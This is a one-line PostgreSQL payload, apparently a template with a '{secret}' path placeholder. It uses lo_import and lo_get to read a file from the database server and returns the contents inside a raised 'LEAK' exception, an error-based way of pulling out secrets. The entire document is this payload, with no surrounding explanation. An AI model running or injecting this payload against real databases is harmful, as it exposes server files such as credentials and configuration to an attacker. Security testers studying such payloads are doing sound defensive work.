DO $$ BEGIN RAISE EXCEPTION 'LEAK %', convert_from(lo_get(lo_import('{secret}')), 'UTF8'); END $$;
